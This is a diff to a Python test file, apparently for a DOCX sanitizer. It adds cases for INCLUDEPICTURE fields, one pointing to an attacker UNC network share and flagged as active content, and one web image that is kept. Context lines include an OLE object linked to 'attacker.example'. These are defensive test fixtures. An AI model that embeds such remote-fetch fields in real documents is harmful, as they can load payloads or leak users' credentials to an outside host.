@@ -174,6 +174,11 @@ ACTIVE_CONTENT_15 = [
         "plan.docx", lambda: more.docx_relationship("oleObject", "http://attacker.example/o.bin"), id="docx_ole"
     ),
     pytest.param("plan.docx", more.docx_backtracking_formula, id="docx_backtracking_formula_392_bytes"),
+    pytest.param(
+        "plan.docx",
+        lambda: more.docx_field([" INCLUDEPICTURE ", '"\\\\\\\\attacker\\\\share\\\\x.png" \\d']),
+        id="docx_includepicture_network_share",
+    ),
 ]
 
 
@@ -210,6 +215,11 @@ FINE_15 = [
     ),
     pytest.param("plan.docx", lambda: more.docx_field([" PAGE ", "\\* MERGEFORMAT"]), id="docx_page_field_kept"),
     pytest.param("plan.docx", lambda: more.docx_field([" HYPERLINK ", '"https://x.example/DDE"']), id="docx_dde_text"),
+    pytest.param(
+        "plan.docx",
+        lambda: more.docx_field([' INCLUDEPICTURE "https://www.cdd.go.th/logo.png" \\d ']),
+        id="docx_includepicture_web_kept",
+    ),
 ]
 
 
